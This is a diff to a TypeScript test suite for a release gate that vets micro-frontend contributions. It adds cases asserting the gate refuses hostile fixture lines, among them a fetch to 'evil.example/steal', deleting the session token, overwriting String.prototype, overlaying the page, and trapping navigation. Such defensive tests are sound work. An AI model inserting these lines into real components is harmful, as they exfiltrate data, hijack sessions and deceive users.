@@ -3,6 +3,7 @@ import type { Registry } from '@panel/shared/panel/registry'
 import { promoteBuilds } from '../releases/live-builds'
 import { listPictures, readPicture } from '../releases/pictures'
 import { publishBuild } from '../releases/publish-build'
+import type { Build } from '../releases/read-build'
 import { readSettings } from '../settings'
 import { temporaryReleases, why } from '../testing/builds'
 import { type Change, PackageCopies } from '../testing/changed-package'
@@ -17,6 +18,8 @@ const throwing: Change = {
   from: 'export const TermsPage = () => {',
   to: "export const TermsPage = () => {\n  if (document.title !== '') throw new Error('the terms are upside down')",
 }
+const atAccount = "  extends: { 'account.section': { view: 'PartView', title: 'part', order: 1 } },"
+
 /** The terms, with a line that runs in the browser alone: where the page is prerendered, there is no title. */
 const doing = (line: string): Change => ({
   file: termsPage,
@@ -96,17 +99,34 @@ afterAll(async () => {
   await copies.remove()
 })
 
-/** Publishes a changed mfe-auth and answers what the gate says to it, with the id of the build as BUILD. */
-const refusalOf = async (...changes: Change[]): Promise<string> => {
-  const build = await copies.build('mfe-auth', changes)
+/** Publishes a build and answers what the gate says to it, with the id of the build as BUILD. */
+const answerTo = async (build: Build): Promise<string> => {
   await publishBuild(releases.store, build)
-  const id = build.description.build
-  const passed = passGate(releases.store, registry, { name: 'mfe-auth', build: id }, options())
+  const { name, build: id } = build.description
+  const passed = passGate(releases.store, registry, { name, build: id }, options())
   const error = await passed.then(
     () => new Error('passed'),
     (reason: Error) => reason,
   )
   return error.message.replaceAll(id, 'BUILD').replaceAll(registry?.shell.stable.build ?? '', 'LIVE')
+}
+
+const refusalOf = async (...changes: Change[]): Promise<string> => answerTo(await copies.build('mfe-auth', changes))
+
+/** What the gate says to a contribution that does something when it is drawn. */
+const refusalOfPart = async (line: string, points = atAccount): Promise<string> => {
+  const view = `import { useEffect } from 'react'
+import { createPortal } from 'react-dom'
+
+const Over = () => createPortal(<p style={{ position: 'fixed', inset: 0 }}>Mine</p>, document.body)
+
+export const PartView = ({ context }) => {
+  ${line}
+  return <p>A part of {JSON.stringify(context)}</p>
+}
+`
+  const said = await answerTo(await copies.buildPart(points, view))
+  return said.replace(/^mfe-part BUILD is refused: PartView at the point account.section \((user|admin), en\) /, '')
 }
 
 describe('the contract gate', () => {
@@ -230,6 +250,88 @@ describe('the contract gate', () => {
     expect(message.replace(/^mfe-auth BUILD is refused: TermsPage at \/terms \((visitor|user), en\) /, '')).toMatch(
       fault,
     )
+  })
+
+  it('looks at contributions with a context of their point, and keeps pictures of them', async () => {
+    const points = `
+  points: { 'part.row-action': { context: object({ item: object({ name: string(), years: int() }) }), kind: 'many' } },
+  extends: {
+    'account.section': { view: 'PartView', title: 'part', order: 1 },
+    'cart.line': { view: 'PartView', title: 'part', order: 1 },
+    'part.row-action': { view: 'PartView', title: 'part', order: 1 },
+  },`
+    expect(await refusalOfPart("if (context.item && !context.item.name) throw new Error('no name')", points)).toBe(
+      'passed',
+    )
+    const [build] = (await releases.store.list('panels/mfe-part/')).map(({ key }) => key.split('/')[2] ?? '')
+    const kept = await listPictures(releases.store, { name: 'mfe-part', build: build ?? '' })
+    expect(kept.map(({ view, language }) => `${view} ${language}`)).toEqual(
+      [1, 2, 3].flatMap(() => ['PartView en', 'PartView uk']),
+    )
+  })
+
+  it.each<[string, string, RegExp]>([
+    ['throws in render', "throw new Error('upside down')", /^does not work: it threw while rendering: upside down$/],
+    ['never shows anything', 'throw new Promise(() => undefined)', /showed nothing in time$/],
+    ['never ends', 'for (;;);', /^does not work: the page hangs: nothing came for 60 s$/],
+    [
+      'throws in a timer',
+      "setTimeout(() => { throw new Error('too late') })",
+      /^does not work: it threw after it was shown: too late$/,
+    ],
+    [
+      'writes an error to the console',
+      "console.error('it went wrong')",
+      /^does not work: the console says: it went wrong$/,
+    ],
+    [
+      'asks another server',
+      "void fetch('https://evil.example/steal').catch(() => undefined)",
+      /^does not work: the console says: .*evil\.example.*Content Security Policy/,
+    ],
+    [
+      'draws over the page',
+      'return <><p>A part</p><Over /></>',
+      /^changes what is around its place: “Mine” was added$/,
+    ],
+    [
+      'opens a window over the page',
+      'return <dialog ref={dialog => { if (dialog && !dialog.open) dialog.showModal() }}>Mine</dialog>',
+      /^draws outside of its place: the place does not cut it off$/,
+    ],
+    [
+      'takes the bounds of its place away',
+      "useEffect(() => void (document.querySelector('[data-contribution]').style.contain = 'none'), [])",
+      /^draws outside of its place: the place does not cut it off$/,
+    ],
+    [
+      'has styles for what is around it',
+      adding('h1 { font-size: 99px !important }'),
+      /^changes what is around its place: the font-size of “Part” is 99px in place of /,
+    ],
+    [
+      'removes what is around it',
+      "useEffect(() => document.querySelector('h1')?.remove(), [])",
+      /^changes what is around its place: /,
+    ],
+    ['hides the header', adding('header { display: none }'), /^hides the header of the shell$/],
+    ['shows nothing', 'return null', /^shows nothing: no text, picture or control can be seen$/],
+    ['changes a prototype', "String.prototype.at = () => 'mine'", /^changes String\.prototype\.at, which all panels/],
+    ['ends the session', "localStorage.removeItem('token')", /^ends the session$/],
+    [
+      'keeps something under a name of others',
+      "sessionStorage.setItem('cart', 'full')",
+      /^keeps “cart” in the browser: a name has to begin with mfe-part or draft:$/,
+    ],
+    ['replaces texts of the shell', replacing(''), /^replaces the text en\.shell\..+ of others: “.*Mine.*” was /],
+    [
+      'cannot be left',
+      "setInterval(() => { if (location.pathname === '/') history.back() }, 100)",
+      /^cannot be left: /,
+    ],
+    ['has a picture without text', wordless, /^is not accessible to all: .+ \(image-alt\), at <img /],
+  ])('refuses a contribution that %s', async (_, line, fault) => {
+    expect(await refusalOfPart(line)).toMatch(fault)
   })
 
   it('refuses a build that leads to another server, which gets no request and has no picture', async () => {
